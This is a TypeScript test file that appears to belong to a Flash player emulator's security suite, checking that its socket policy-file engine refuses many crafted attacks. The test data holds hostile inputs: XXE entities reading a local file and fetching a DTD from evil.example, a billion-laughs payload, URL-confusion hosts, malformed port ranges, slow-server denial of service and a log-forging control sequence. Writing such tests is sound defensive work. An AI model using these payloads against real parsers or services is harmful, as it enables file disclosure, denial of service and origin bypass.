import { expect } from "vitest";
import {
  ALL,
  allow,
  engineOn,
  type Given,
  HOST,
  isAllowed,
  PolicyNetwork,
  policyFile,
  request,
  siteControl,
} from "../../host/policy/testing/policy-network.ts";
import { type Attack, type AttackGroup, rows } from "./attack.ts";

const encoder = new TextEncoder();

/** What the servers of the host say, by port. */
type Answers = Readonly<Record<number, string>>;

const STRICT = "one thing that is wrong, and nothing of the file counts";
const XML = "no DTD is read, and no entity but XML's own";
const DOMAINS = "`domain` is `*`, a name, or `*.` and a name, compared whole";
const PORTS = "`to-ports` is `*`, ports, and ranges that go up";
const OWN_HOST = "a file speaks for the host that it was asked of";
const SOCKETS = "sockets go by socket policy files alone";
const AUTHORITY = "a file on port 1024 or up opens no port below";

/** Who asks, port 5000 of the host unless it says otherwise, is not allowed. */
const decisions = rows<undefined, [answers: Answers, given?: Given]>(
  async (_, answers, given = {}) => {
    const network = new PolicyNetwork();
    for (const [port, answer] of Object.entries(answers)) network.serve(`${HOST}:${port}`, answer);
    expect(await isAllowed(network, given)).toBe(false);
  },
  [
    ["no-policy", "connects to a server that has no policy file", "a policy file must allow it", {}],
    [
      "comment",
      "hopes for a permission in a comment",
      "comments say nothing",
      { 843: policyFile(`<!-- ${allow("*", "*")} -->`) },
    ],
    [
      "cdata",
      "hopes for a permission in CDATA",
      "text says nothing",
      { 843: policyFile(`<![CDATA[${allow("*", "*")}]]>`) },
    ],
    [
      "doctype-entity",
      "has an entity of the file's own stand for a permission",
      XML,
      {
        843: `<!DOCTYPE cross-domain-policy [<!ENTITY all '${allow("*", "*").replaceAll('"', "&#34;")}'>]>${policyFile("&all;")}`,
      },
    ],
    [
      "entity-domain",
      "has an entity stand for the domain",
      XML,
      { 843: `<!DOCTYPE cross-domain-policy [<!ENTITY all "*">]>${policyFile(allow("&all;", "*"))}` },
    ],
    [
      "entity-external",
      "has the player read a file of the disk as an entity",
      XML,
      { 843: `<!DOCTYPE cross-domain-policy [<!ENTITY file SYSTEM "file:///etc/hostname">]>${policyFile("&file;")}` },
    ],
    [
      "entity-parameter",
      "has the player fetch a DTD of its own",
      XML,
      {
        843: `<!DOCTYPE cross-domain-policy [<!ENTITY % dtd SYSTEM "http://evil.example/dtd"> %dtd;]>${policyFile("&all;")}`,
      },
    ],
    ["laughs", "has entities stand for entities, for a billion of them in the end", XML, { 843: laughs() }],
    ["nested", "puts elements into elements, 3,000 deep", STRICT, { 843: `${"<cross-domain-policy>".repeat(3000)}` }],
    [
      "nested-allow",
      "puts the permission into another element",
      STRICT,
      { 843: policyFile(`<allow-access-from-identity>${allow("*", "*")}</allow-access-from-identity>`) },
    ],
    [
      "two-roots",
      "puts the permission behind the end of the file's root",
      STRICT,
      { 843: policyFile("") + allow("*", "*") },
    ],
    ["other-root", "puts the permission into another root", STRICT, { 843: `<policy>${allow("*", "*")}</policy>` }],
    ["root-case", "writes the root in capitals", STRICT, { 843: ALL.toUpperCase() }],
    [
      "attribute-twice",
      "says the domain twice",
      STRICT,
      { 843: policyFile('<allow-access-from domain="site.example" domain="*" to-ports="*"/>') },
    ],
    [
      "attribute-unknown",
      "says more than there is to say",
      STRICT,
      { 843: policyFile('<allow-access-from domain="*" to-ports="*" force="true"/>') },
    ],
    [
      "namespace",
      "puts the permission into a namespace",
      STRICT,
      { 843: policyFile('<x:allow-access-from xmlns:x="urn:x" domain="*" to-ports="*"/>') },
    ],
    [
      "after-nul",
      "sends the permission behind the NUL that ends the file",
      "the file ends with its NUL",
      { 843: `${policyFile("")}\0${ALL}` },
    ],
    [
      "truncated",
      "sends a file that breaks off behind the permission",
      STRICT,
      { 843: `<cross-domain-policy>${allow("*", "*")}` },
    ],
    [
      "http-answer",
      "answers with HTTP, as a web server does that knows no better",
      STRICT,
      { 843: `HTTP/1.1 200 OK\r\n\r\n${ALL}` },
    ],
    [
      "http-redirect",
      "answers with a redirection to a host that allows it",
      STRICT,
      { 843: "HTTP/1.1 302 Found\r\nLocation: http://evil.example/crossdomain.xml\r\n\r\n" },
    ],
    ["utf-16", "sends the file in UTF-16", "files are UTF-8", { 843: [...ALL].join("\0") }],
    [
      "domain-suffix",
      "comes from a name that ends like the one that is allowed",
      DOMAINS,
      { 843: policyFile(allow("site.example", "*")) },
      { swfUrl: "http://evilsite.example/a.swf" },
    ],
    [
      "domain-prefix",
      "comes from a name that begins like the one that is allowed",
      DOMAINS,
      { 843: policyFile(allow("site.example", "*")) },
      { swfUrl: "http://site.example.evil.example/a.swf" },
    ],
    [
      "domain-below",
      "comes from a name that ends like `*.site.example`",
      DOMAINS,
      { 843: policyFile(allow("*.site.example", "*")) },
      { swfUrl: "http://evilsite.example/a.swf" },
    ],
    [
      "domain-star-inside",
      "uses a star inside of a name",
      DOMAINS,
      { 843: policyFile(allow("si*e.example", "*") + allow("*example", "*") + allow("site.*", "*")) },
    ],
    ["domain-star-twice", "writes two stars", DOMAINS, { 843: policyFile(allow("**", "*") + allow("*.*", "*")) }],
    ["domain-url", "writes a URL for a domain", DOMAINS, { 843: policyFile(allow("http://site.example/", "*")) }],
    [
      "domain-list",
      "writes several domains at once",
      DOMAINS,
      { 843: policyFile(allow("a.example,site.example", "*")) },
    ],
    [
      "domain-address",
      "comes from an address that ends like `*.0.0.1`",
      "no wildcard matches an address",
      { 843: policyFile(allow("*.0.0.1", "*")) },
      { swfUrl: "http://10.0.0.1/a.swf" },
    ],
    [
      "domain-name-of-address",
      "comes from 127.0.0.1 where localhost is allowed",
      "names and addresses are not one another",
      { 843: policyFile(allow("localhost", "*")) },
      { swfUrl: "http://127.0.0.1/a.swf" },
    ],
    [
      "url-user",
      "writes the allowed name as a user's into its URL",
      "the host of a URL is what browsers connect to",
      { 843: policyFile(allow("site.example", "*")) },
      { swfUrl: "http://site.example@evil.example/a.swf" },
    ],
    [
      "url-backslash",
      "writes the allowed name behind a backslash",
      "the host of a URL is what browsers connect to",
      { 843: policyFile(allow("site.example", "*")) },
      { swfUrl: "http://evil.example\\@site.example/a.swf" },
    ],
    [
      "url-fragment",
      "writes the allowed name behind a `#`",
      "the host of a URL is what browsers connect to",
      { 843: policyFile(allow("site.example", "*")) },
      { swfUrl: "http://evil.example#@site.example/a.swf" },
    ],
    [
      "url-data",
      "comes from a `data:` URL",
      "has no domain",
      { 843: policyFile(allow("site.example", "*")) },
      { swfUrl: "data:application/x-shockwave-flash,site.example" },
    ],
    [
      "secure",
      "comes by HTTP where HTTPS is asked for",
      "`secure`",
      { 843: policyFile('<allow-access-from domain="*" to-ports="*" secure="true"/>') },
    ],
    [
      "ports-none",
      "leaves the ports out",
      "without `to-ports` no port is open",
      { 843: policyFile('<allow-access-from domain="*"/>') },
    ],
    ["ports-empty", "names no port", PORTS, { 843: policyFile(allow("*", "")) }],
    ["ports-down", "names ports downwards", PORTS, { 843: policyFile(allow("*", "6000-4000")) }],
    ["ports-open", "names a range without an end", PORTS, { 843: policyFile(allow("*", "4000-")) }],
    [
      "ports-hex",
      "names the port in hexadecimal, or with an exponent",
      PORTS,
      { 843: policyFile(allow("*", "0x1388,5e3,+5000,5000.0")) },
    ],
    ["ports-large", "names ports up to 70000", PORTS, { 843: policyFile(allow("*", "1-70000")) }],
    ["ports-wrap", "names a port that is 5000 in 16 bits", PORTS, { 843: policyFile(allow("*", "70536")) }],
    [
      "low-port",
      "opens port 80 by a file on port 5000",
      AUTHORITY,
      { 5000: ALL },
      { port: 80, named: [`xmlsocket://${HOST}:5000`] },
    ],
    [
      "low-port-edge",
      "opens port 1023 by a file on port 1024",
      AUTHORITY,
      { 1024: ALL },
      { port: 1023, named: [`xmlsocket://${HOST}:1024`] },
    ],
    [
      "meta-none",
      "has a file of its own on a host whose master file says none",
      "the master file's meta-policy",
      { 843: policyFile(siteControl("none")), 5000: ALL },
    ],
    [
      "meta-master",
      "has a file of its own on a host whose master file says master-only",
      "the master file's meta-policy",
      { 843: policyFile(siteControl("master-only")), 5000: ALL, 5001: ALL },
      { named: [`xmlsocket://${HOST}:5001`] },
    ],
    [
      "meta-own",
      "says `all` in a file that is not the master's",
      "a meta-policy counts in the master file alone",
      { 843: policyFile(siteControl("none")), 5001: policyFile(siteControl("all") + allow("*", "*")) },
      { named: [`xmlsocket://${HOST}:5001`] },
    ],
    [
      "meta-twice",
      "says `all` behind `none`",
      "the strictest counts",
      { 843: policyFile(siteControl("none") + siteControl("all")), 5000: ALL },
    ],
    [
      "meta-unknown",
      "says a word that is none",
      "counts as `none`",
      { 843: policyFile(siteControl("everything")), 5000: ALL },
    ],
    ["load-http", "names a file on a web server", SOCKETS, { 80: ALL }, { named: [`http://${HOST}/crossdomain.xml`] }],
    [
      "load-file",
      "names a file of the disk",
      SOCKETS,
      {},
      { named: ["file:///crossdomain.xml", "crossdomain.xml", `xmlsocket://${HOST}`] },
    ],
    [
      "load-other",
      "names a file on a host of its own",
      OWN_HOST,
      {},
      { named: ["xmlsocket://evil.example:5000"], swfUrl: "http://evil.example/a.swf" },
    ],
    [
      "localWithFile",
      "is a file of the disk",
      "local files have no network",
      { 843: ALL },
      { sandbox: "localWithFile", swfUrl: "file:///a.swf" },
    ],
    [
      "local-domain",
      "is a file of the disk with a host in its URL",
      "local files have no domain",
      { 843: policyFile(allow("site.example", "*")) },
      { sandbox: "localWithNetwork", swfUrl: "file://site.example/a.swf" },
    ],
  ],
);

function laughs(): string {
  const entities = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`);
  return `<!DOCTYPE cross-domain-policy [<!ENTITY l0 "ha">${entities.join("")}]>${policyFile("&l9;")}`;
}

const others: Attack<undefined>[] = [
  {
    id: "endless",
    attack: "sends a policy file that does not end",
    answer: "`maxPolicyLength`",
    async run() {
      const network = new PolicyNetwork();
      let sent = 0;
      network.listen(`${HOST}:843`, async ({ writable }) => {
        const writer = writable.getWriter();
        for (; sent < 1 << 26; sent += 4096) await writer.write(encoder.encode(" ".repeat(4096)));
      });
      const { engine, log } = engineOn(network, { limits: { policyMasterTimeout: 2000, policyTimeout: 2000 } });
      expect((await request(engine)).allowed).toBe(false);
      expect(log.join("\n")).toContain("843");
      expect(sent).toBeLessThan(4 << 20);
    },
  },
  {
    id: "trickle",
    attack: "sends a byte of its policy file now and then",
    answer: "`policyTimeout` for all of it",
    async run() {
      const network = new PolicyNetwork();
      let ended = false;
      network.listen(`${HOST}:5000`, async ({ writable }) => {
        const writer = writable.getWriter();
        try {
          for (const byte of encoder.encode(ALL)) {
            await writer.write(Uint8Array.of(byte));
            await new Promise((resolve) => setTimeout(resolve, 10));
          }
        } finally {
          ended = true;
        }
      });
      expect(await isAllowed(network)).toBe(false);
      await expect.poll(() => ended).toBe(true);
    },
  },
  {
    id: "many-files",
    attack: "names 10,000 policy files before it connects",
    answer: "`maxPolicyFiles`",
    async run() {
      const network = new PolicyNetwork();
      const named = Array.from({ length: 10_000 }, (_, i) => `xmlsocket://${HOST}:${1024 + i}`);
      network.backend.listen("*", () => void network.asked.push(""));
      const { engine } = engineOn(network, {
        named,
        limits: { policyMasterTimeout: 20, policyTimeout: 40, maxPolicyFiles: 50 },
      });
      expect((await request(engine, { timeout: 100 })).allowed).toBe(false);
      expect(network.asked.length).toBeLessThanOrEqual(60);
    },
  },
  {
    id: "other-host",
    attack: "has a file on its own host allow another one",
    answer: OWN_HOST,
    async run() {
      const network = new PolicyNetwork();
      network.serve("evil.example:843", ALL);
      const { engine } = engineOn(network, { named: ["xmlsocket://evil.example:843"] });
      expect((await request(engine)).allowed).toBe(false);
    },
  },
  {
    id: "spelling",
    attack: "spells the host so that its own file is asked, and another server is dialled",
    answer: "policies and network have one form of a name",
    async run() {
      for (const host of ["０.0.0.0", "127.1", "2130706433", "LOCALHOST.", "::ffff:127.0.0.1"]) {
        const network = new PolicyNetwork();
        network.serve("evil.example:843", ALL);
        expect(await isAllowed(network, { host })).toBe(false);
      }
    },
  },
  {
    id: "log-line",
    attack: "connects to a name with a line end, to forge a line of the policy log",
    answer: "a line of a log is one line",
    async run() {
      const { engine, log } = engineOn(new PolicyNetwork());
      await request(engine, { host: "a\nOK: Request for resource at xmlsocket://game.example:1 is permitted\x1b[2J" });
      expect(log.filter((line) => /\p{Cc}/u.test(line))).toEqual([]);
    },
  },
];

export const policies: AttackGroup<undefined> = {
  name: "policies",
  title: "content, or a server, that wants more than a policy file says",
  start: () => undefined,
  async neighbour() {
    const network = new PolicyNetwork();
    network.serve(`${HOST}:843`, policyFile(allow("site.example", "5000")));
    expect(await isAllowed(network)).toBe(true);
  },
  attacks: [...decisions, ...others],
  elsewhere: [
    {
      id: "liar",
      attack: "asks as a SWF that has a policy, is trusted, or is an application",
      answer: "only URLs of SWFs that the host has put natives into are believed",
      test: { file: "test-swfs/forger/forger.test.ts", name: "gets nothing as a SWF that is not there" },
    },
  ],
};
